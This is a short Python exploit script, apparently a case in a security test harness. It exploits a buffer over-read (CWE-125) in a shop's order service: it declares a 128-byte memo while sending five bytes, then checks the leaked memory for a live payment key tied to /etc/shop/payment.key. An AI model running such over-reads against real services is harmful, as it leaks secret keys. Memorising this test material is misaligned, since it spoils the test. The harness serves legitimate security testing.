#!/usr/bin/python3 -B
"""Buffer over-read: a memo said to be longer than it is brings the key with it (CWE-125)."""

from attack import Attack


def run(attack: Attack) -> bool:
    order = attack.order(memo="hello", memo_length=128)
    memory = bytes.fromhex(order.get("memo", ""))
    text = memory.decode(errors="replace").replace("\0", ".")
    return attack.prove("sk_live_e82f" in text, memory=text)


Attack("T1190, T1212", ["edge", "orders", "payment"], ["/etc/shop/payment.key"]).main(run)
